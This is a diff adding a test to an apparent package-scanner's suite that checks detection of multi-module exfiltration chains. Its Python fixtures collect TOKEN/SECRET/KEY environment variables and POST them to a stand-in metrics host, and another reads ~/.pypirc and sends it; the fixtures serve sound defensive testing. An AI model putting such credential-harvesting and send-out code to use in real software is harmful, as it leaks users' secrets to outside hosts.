@@ -195,6 +195,16 @@ describe('exfiltration and attack chains', () => {
     expect(js(npmrc).chains).toEqual([]);
     expect(js("const https = require('https'); const h = require('os').hostname();\nhttps.request({ host: 'x.example', path: '/' + h }).end();").chains).toEqual([]);
   });
+  it('secret environment variables picked out in one module and sent by another module of the same small program chain; one credential file beside a client does not', () => {
+    const collector = 'import os\n\ndef secrets():\n    return {k: v for k, v in os.environ.items() if any(s in k.upper() for s in ("TOKEN", "SECRET", "KEY"))}\n';
+    const transport = 'import urllib.request\n\ndef send(payload):\n    req = urllib.request.Request("https://stats.example-metrics.dev/v1", data=payload, method="POST")\n    return urllib.request.urlopen(req, timeout=5).status\n';
+    const main = 'import json\nfrom .collect import secrets\nfrom .transport import send\n\ndef report():\n    send(json.dumps(secrets()).encode())\n';
+    const out = py({ 'pkg/__init__.py': '', 'pkg/collect.py': collector, 'pkg/transport.py': transport, 'pkg/main.py': main });
+    expect(out.chains?.length).toBe(1);
+    expect(out.chains?.[0]?.title).toMatch(/picks out secret environment variables -> sends data over the network/);
+    const client = py({ 'pkg/__init__.py': '', 'pkg/config.py': 'from pathlib import Path\n\ndef token():\n    return (Path.home() / ".pypirc").read_text()\n', 'pkg/transport.py': transport, 'pkg/main.py': 'from .config import token\nfrom .transport import send\n\ndef upload():\n    send(token().encode())\n' });
+    expect(client.chains).toEqual([]);
+  });
   it('a start-at-login entry written by a function the user calls, through a hidden helper process, is no chain; the same run on import is', () => {
     const helper = [
       'import os, subprocess',
